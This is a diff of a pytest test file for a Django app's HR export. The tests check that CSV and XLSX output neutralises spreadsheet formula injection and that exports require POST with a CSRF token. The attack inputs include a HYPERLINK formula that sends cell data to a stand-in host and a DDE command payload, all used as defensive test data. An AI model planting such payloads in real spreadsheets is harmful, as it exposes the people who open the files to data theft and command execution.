@@ -1,14 +1,18 @@
 """HR exports (CSV and XLSX): text that a spreadsheet would run as a formula comes out inert.
 
 Names, emails and position names are typed by people; any of them may begin with = + - @,
-a tab or a carriage return. In the export such a cell begins with an apostrophe instead, and
-the XLSX holds no formula at all.
+a tab, a carriage return or a line feed, their full-width or small forms, or whitespace or an
+invisible character in front of any of those (OWASP's CSV injection guidance). In the export
+such a cell begins with an apostrophe instead, every CSV field is quoted, and the XLSX holds no
+formula at all. An export writes an audit entry, so it is a POST: a GET never starts one.
 """
 
 import csv
 import io
 import re
+import unicodedata
 import zipfile
+from urllib.parse import urlencode
 
 import pytest
 from django.contrib.auth.models import Group
@@ -19,6 +23,7 @@ from openpyxl import load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 from certificates.models import Position
+from lms.emails import normalise_email
 from lms.models import AuditEntry
 from lms.roles import Role
 from tests.factories import CredentialTypeFactory, UserFactory
@@ -26,7 +31,30 @@ from tests.security.helpers import PROPERTY
 
 pytestmark = pytest.mark.django_db
 
-TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+# Leading characters a spreadsheet may skip or read as a trigger: whitespace of every kind,
+# invisible format characters, and the full-width, small and minus-sign forms of = + - @.
+SNEAKY_STARTS = (
+    " ",
+    "  ",
+    "\n",
+    "\u00a0",  # no-break space
+    "\u3000",  # ideographic space
+    "\u2028",  # line separator
+    "\u200b",  # zero-width space
+    "\ufeff",  # byte order mark
+    "\u200e",  # left-to-right mark
+    "\uff1d",  # full-width equals
+    "\uff0b",  # full-width plus
+    "\uff0d",  # full-width hyphen-minus
+    "\uff20",  # full-width at
+    "\ufe66",  # small equals
+    "\ufe62",  # small plus
+    "\ufe63",  # small hyphen-minus
+    "\ufe6b",  # small at
+    "\u2212",  # minus sign
+    "\x01=",  # a control character (dropped) hiding a trigger
+)
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "=cmd|' /C calc'!A0",
@@ -36,13 +64,25 @@ ATTACKS = [
     "\t=1+1",
     "\r=1+1",
     "=1+1\n=2+2",
+    " =1+1",
+    "\n=1+1",
+    " \t=1+1",
+    '\uff1dHYPERLINK("http://evil.example")',
+    "\uff0b1+1",
+    "\uff0d2+3",
+    "\uff20SUM(1+1)",
+    "\u3000=1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
 ]
 # What PostgreSQL can store in a text column: anything but NUL (and lone surrogates).
 stored_text = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"))
 
 
 def export(client, export_format: str, **filters) -> bytes:
-    response = client.get(reverse("certificates:hr_matrix"), {"export": export_format, **filters})
+    """Press the page's Export button: a POST, with the filters in the query string."""
+    url = f"{reverse('certificates:hr_matrix')}?{urlencode(filters)}"
+    response = client.post(url, {"export": export_format})
     assert response.status_code == 200
     return b"".join(response.streaming_content)
 
@@ -71,7 +111,16 @@ def assert_no_formula(content: bytes) -> None:
 def assert_inert(rows: list[list[str]]) -> None:
     for row in rows:
         for cell in row:
-            assert not cell.startswith(TRIGGERS), repr(cell)
+            assert not starts_like_formula(cell), repr(cell)
+
+
+def starts_like_formula(cell: str) -> bool:
+    """Independent of the code under test: what OWASP lists, its look-alikes, and any of
+    them behind leading whitespace or invisible characters."""
+    stripped = cell.lstrip("".join(SNEAKY_STARTS[:9]) + "\t\r\n")
+    leading_blank = stripped != cell
+    first = unicodedata.normalize("NFKC", stripped[:1])
+    return leading_blank or first in {"=", "+", "-", "@", "\u2212"}
 
 
 def row_of(rows: list[list[str]], email: str) -> list[str]:
@@ -108,8 +157,13 @@ def test_formula_like_names_emails_and_positions_come_out_inert(
     hr_client, hostile_positions, attack
 ):
     person = UserFactory(roles=[Role.PEER], certificate_name=attack)
-    person.email = attack[0] + person.email
-    person.save(update_fields=["email"])
+    # An account's address is stored normalised (lms.emails): leading whitespace goes and
+    # full-width forms become ASCII, so the email cell starts with the NFKC form of a trigger.
+    trigger = normalise_email(attack[0] + "x")[:1]
+    email_attacked = trigger in "=+-@" and trigger != "x"
+    if email_attacked:
+        person.email = trigger + person.email
+        person.save(update_fields=["email"])
 
     csv_content, xlsx_content = export(hr_client, "csv"), export(hr_client, "xlsx")
 
@@ -118,8 +172,8 @@ def test_formula_like_names_emails_and_positions_come_out_inert(
         assert_inert(rows)
         header = rows[0]
         assert {f"'{position.name}" for position in hostile_positions} <= set(header)
-        row = row_of(rows, person.email[1:])
-        assert row[1].startswith("'")
+        row = row_of(rows, person.email[1:] if email_attacked else person.email)
+        assert row[1].startswith("'") or not email_attacked
         assert row[0].startswith("'")
         assert row[0][1:].replace("\n", "\r") == attack.replace("\n", "\r")
 
@@ -171,3 +225,88 @@ def test_every_export_is_audited(hr_client, hr):
     export(hr_client, "xlsx")
 
     assert AuditEntry.objects.filter(action="hr.export", actor=hr).count() == before + 2
+
+
+@pytest.mark.parametrize("start", SNEAKY_STARTS)
+def test_spreadsheet_safe_prefixes_every_sneaky_start(start):
+    from certificates.services.exports import spreadsheet_safe
+
+    for rest in ("=1+1", "cmd|' /C calc'!A0", "", "Smith"):
+        value = start + rest
+        safe = spreadsheet_safe(value)
+        assert safe.startswith("'"), repr(value)
+        assert safe[1:] == ILLEGAL_CHARACTERS_RE.sub("", value)
+
+
+@pytest.mark.parametrize("value", ["Robin Example", "robin@example.org", "Met", "0", "'quoted", ""])
+def test_spreadsheet_safe_leaves_plain_text_alone(value):
+    from certificates.services.exports import spreadsheet_safe
+
+    assert spreadsheet_safe(value) == value
+
+
+@pytest.mark.parametrize("start", SNEAKY_STARTS)
+def test_sneaky_starts_come_out_inert_in_both_formats(hr_client, start):
+    name = f'{start}=HYPERLINK("http://evil.example")'
+    person = UserFactory(roles=[Role.PEER], certificate_name=name)
+
+    csv_content, xlsx_content = export(hr_client, "csv"), export(hr_client, "xlsx")
+
+    assert_no_formula(xlsx_content)
+    for rows in (csv_rows(csv_content), xlsx_rows(xlsx_content)):
+        assert_inert(rows)
+        assert row_of(rows, person.email)[0].startswith("'")
+
+
+def test_every_csv_field_is_quoted(hr_client):
+    """A separator inside a cell (a comma, or the semicolon some locales split on) never
+    starts a new cell, whichever separator the spreadsheet assumes."""
+    UserFactory(roles=[Role.PEER], certificate_name="Robin;=1+1")
+
+    content = export(hr_client, "csv").decode()
+
+    for line in content.splitlines():
+        if line:
+            assert line.startswith('"') and line.endswith('"'), line
+    assert '"Robin;=1+1"' in content
+
+
+def test_an_export_by_get_is_refused_and_writes_no_audit_entry(hr_client, hr):
+    before = AuditEntry.objects.filter(action="hr.export").count()
+    url = reverse("certificates:hr_matrix")
+
+    for export_format in ("csv", "xlsx"):
+        response = hr_client.get(url, {"export": export_format})
+        assert response.status_code == 405
+        assert response["Allow"] == "POST"
+        assert not response.streaming
+    assert hr_client.head(url, {"export": "csv"}).status_code == 405
+
+    assert AuditEntry.objects.filter(action="hr.export").count() == before
+
+
+def test_the_export_buttons_post_with_the_filters_and_a_csrf_token(hr_client):
+    page = hr_client.get(reverse("certificates:hr_matrix"), {"status": "missing"}).content.decode()
+
+    assert '<form method="post" action="?status=missing"' in page
+    assert 'name="csrfmiddlewaretoken"' in page
+    assert '<button type="submit" name="export" value="csv"' in page
+    assert "export=csv" not in page
+
+
+def test_an_export_needs_the_csrf_token(hr):
+    from tests.clients import SignedInClient
+
+    client = SignedInClient(enforce_csrf_checks=True)
+    client.force_login(hr)
+    before = AuditEntry.objects.filter(action="hr.export").count()
+
+    response = client.post(reverse("certificates:hr_matrix"), {"export": "csv"})
+
+    assert response.status_code == 403
+    assert AuditEntry.objects.filter(action="hr.export").count() == before
+
+
+def test_an_unknown_export_format_is_a_400(hr_client):
+    response = hr_client.post(reverse("certificates:hr_matrix"), {"export": "pdf"})
+    assert response.status_code == 400
